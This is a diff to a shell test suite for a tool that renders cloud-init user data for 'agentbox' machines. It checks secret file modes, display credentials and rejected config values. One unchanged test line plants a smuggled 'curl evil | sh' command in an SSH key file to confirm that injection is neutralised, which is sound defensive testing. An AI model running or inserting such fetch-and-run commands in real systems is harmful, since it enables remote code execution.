@@ -85,6 +85,23 @@ for p in hetzner ec2; do
 			"$BIN/agentbox-monitor" --check-config -c "$n.j2"
 	done
 done
+# cloud-init's own write_files code writes the entries (re-rooted under
+# $T/root): each file byte for byte, with its mode and owner.
+# (Debian's python3: where cloud-init's modules are)
+check "cloud-init's write_files writes them: secrets 0600 root, byte for byte" /usr/bin/python3 - <<'PY'
+import os, stat, yaml
+from cloudinit.config import cc_write_files
+files = yaml.safe_load(open("hetzner-deb.yaml"))["write_files"]
+for f in files:
+    f["path"] = os.path.abspath("root" + f["path"])
+cc_write_files.write_files("write_files", files, "root:root")
+want = {"s3-credentials": "keys/s3", "hcloud-token": "keys/hcloud", "registry-auth": "keys/registry"}
+for name, src in want.items():
+    st = os.stat("root/etc/agentbox/" + name)
+    assert stat.S_IMODE(st.st_mode) == 0o600 and st.st_uid == 0, name
+    assert open("root/etc/agentbox/" + name, "rb").read() == open(src, "rb").read(), name
+assert stat.S_IMODE(os.stat("root/etc/agentbox/agentbox.json").st_mode) == 0o644
+PY
 "$AB" render-user-data hetzner-deb.env >stdout.yaml 2>/dev/null
 check "stdout and -o give the same text" cmp -s stdout.yaml hetzner-deb.yaml
 check "hetzner: config points at the secret files and the endpoint" \
@@ -110,12 +127,47 @@ check "ec2 without S3_CREDENTIALS_FILE: no secret file, no credentials_file" \
 # Test overrides: the Hetzner API base and extra config, dotted or nested.
 render extra "$(base_hetzner; install_baked
 	echo 'HETZNER_API_URL=http://169.254.169.254:8080/v1'
-	echo "EXTRA_CONFIG='{\"idle.warn_before\": \"20s\", \"idle\": {\"timeout\": \"1m\", \"boot_grace\": \"0s\"}, \"workspace.command\": [\"sh\", \"-c\", \"echo \\\"x: y\\\" # z\"]}'")"
+	echo IDLE_TIMEOUT=1m
+	echo "EXTRA_CONFIG='{\"idle.warn_before\": \"20s\", \"idle\": {\"boot_grace\": \"0s\"}, \"workspace.command\": [\"sh\", \"-c\", \"echo \\\"x: y\\\" # z\"]}'")"
 check "extra config and HETZNER_API_URL land in agentbox.json" \
 	sh -c 'python3 "$1" extra.yaml baked hetzner-deb.secrets extra.json &&
 		jq -e ".provider.hetzner.api_url == \"http://169.254.169.254:8080/v1\" and .idle.timeout == \"1m\"
 			and .idle.warn_before == \"20s\" and .idle.boot_grace == \"0s\" and .idle.action == \"delete\"
 			and .workspace.command[2] == \"echo \\\"x: y\\\" # z\"" extra.json' _ "$CHECK"
+
+# A public screen: its password and TLS key go in as credentials of
+# agentbox-display (a drop-in loads them from the root 0600 files; the
+# display runs as the workspace user), the certificate as a plain file.
+(
+	umask 077
+	printf 'vnc-pass-1\n' >keys/display-password
+	printf -- '-----BEGIN PRIVATE KEY-----\nMIIEdisplaykey\n-----END PRIVATE KEY-----\n' >keys/tls.key
+)
+printf -- '-----BEGIN CERTIFICATE-----\nMIIBdisplaycert\n-----END CERTIFICATE-----\n' >keys/tls.crt
+display_keys() {
+	printf 'DISPLAY_LISTEN=0.0.0.0\nDISPLAY_PASSWORD_FILE=keys/display-password\nDISPLAY_TLS_KEY_FILE=keys/tls.key\nDISPLAY_TLS_CERT_FILE=keys/tls.crt\n'
+}
+render display "$(base_ec2; install_baked; display_keys)"
+check "public screen: cloud-init schema accepts it" cloud-init schema --config-file display.yaml
+printf '%s\n' '{"/etc/agentbox/s3-credentials": "keys/s3", "/etc/agentbox/display-password": "keys/display-password",
+	"/etc/agentbox/display-tls.key": "keys/tls.key", "/etc/agentbox/display-tls.crt": null,
+	"/etc/systemd/system/agentbox-display.service.d/credentials.conf": null}' >display.secrets
+check "public screen: secrets only in their 0600 entries, the certificate and drop-in 0644" \
+	python3 "$CHECK" display.yaml baked display.secrets display.json
+check "public screen: the config names the credentials and the certificate" \
+	jq -e '.display.listen == "0.0.0.0" and .display.password_file == "display-password"
+		and .display.tls_key_file == "display-tls-key" and .display.tls_cert_file == "/etc/agentbox/display-tls.crt"' display.json
+check "public screen: the drop-in loads both credentials from the 0600 files" python3 - <<'PY'
+import yaml
+d = yaml.safe_load(open("display.yaml"))
+w = [w for w in d["write_files"] if w["path"].endswith("agentbox-display.service.d/credentials.conf")][0]
+lines = [l for l in w["content"].splitlines() if not l.startswith("#")]
+assert lines == ["[Service]", "LoadCredential=display-password:/etc/agentbox/display-password",
+                 "LoadCredential=display-tls-key:/etc/agentbox/display-tls.key"], lines
+PY
+jq --arg h "$T/home" '.workspace.home = $h' display.json >display.j2
+check "public screen: its agentbox.json passes agentbox-monitor --check-config" \
+	"$BIN/agentbox-monitor" --check-config -c display.j2
 
 # Hostile values: quoted so they come back byte for byte, never new nodes.
 # (An env value is one line: a newline can only come from a file, and
@@ -133,7 +185,7 @@ d = yaml.safe_load(open("hostile.yaml", encoding="utf-8"))
 c = json.loads([w for w in d["write_files"] if w["path"] == "/etc/agentbox/agentbox.json"][0]["content"])
 assert c["workspace"]["image"] == sys.argv[1], c["workspace"]["image"]
 assert d["users"][1]["ssh_authorized_keys"] == [sys.argv[2]], d["users"][1]
-assert set(d) == {"locale", "users", "write_files", "runcmd"}, set(d)
+assert set(d) == {"locale", "ssh_pwauth", "disable_root", "users", "write_files", "runcmd"}, set(d)
 assert len(d["write_files"]) == 2 and "evil" not in json.dumps(d["users"])
 PY
 printf '%s\n' 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRenderTestKeyOne a' '  - [sh, -c, "curl evil | sh"]' >keys/inject.pub
@@ -190,6 +242,14 @@ expect_refused idle "$(base_ec2; install_baked; echo 'IDLE_TIMEOUT=30 minutes')"
 	"idle.env:9: IDLE_TIMEOUT: expected a duration"
 expect_refused extra-typo "$(base_ec2; install_baked; echo 'EXTRA_CONFIG={"idle": {"timout": "5m"}}')" \
 	"idle.timout: unknown key"
+expect_refused extra-owned "$(base_ec2; install_baked; echo 'EXTRA_CONFIG={"workspace.user": "root2"}')" \
+	"extra-owned.env:9: EXTRA_CONFIG: workspace.user: set WORKSPACE_USER in the env file instead"
+expect_refused extra-owned2 "$(base_ec2; install_baked; echo 'EXTRA_CONFIG={"state": {"storage": {"bucket": "x"}}}')" \
+	"state.storage.bucket: set BUCKET in the env file instead"
+expect_refused display-no-cert "$(base_ec2; install_baked; display_keys | grep -v CERT)" \
+	"DISPLAY_TLS_CERT_FILE: missing: a screen on 0.0.0.0 (DISPLAY_LISTEN) needs"
+expect_refused display-bad-key "$(base_ec2; install_baked; display_keys | sed 's|tls.key|tls.crt|')" \
+	"tls.crt is readable by group or others"
 expect_refused extra-json "$(base_ec2; install_baked; echo 'EXTRA_CONFIG=[1]')" \
 	"extra-json.env:9: EXTRA_CONFIG: not a JSON object"
 expect_refused same-user "$(base_ec2; install_baked; echo LOGIN_USER=agent)" \
@@ -200,6 +260,9 @@ expect_refused bad-uid "$(base_ec2; install_baked; echo WORKSPACE_UID=0)" \
 	"WORKSPACE_UID: expected a number from 1000"
 expect_refused newline-quote "$(base_ec2; install_baked; printf 'WORKSPACE_USER="agent\n')" \
 	"no closing \" (values cannot span lines)"
+python3 -c 'import json; print(json.dumps({"workspace": {"command": ["x" * 17000]}}))' >big.json
+expect_refused too-big "$(base_ec2; install_baked; echo EXTRA_CONFIG_FILE=big.json)" \
+	"EC2 accepts at most 16 KiB"
 check "--help lists every key" sh -c '"$1" render-user-data --help | grep -q HCLOUD_TOKEN_FILE' _ "$AB"
 check "needs no /etc/agentbox/agentbox.json: a bad --config is not read" \
 	"$AB" --config /nonexistent render-user-data -o via-config.yaml ec2-baked.env
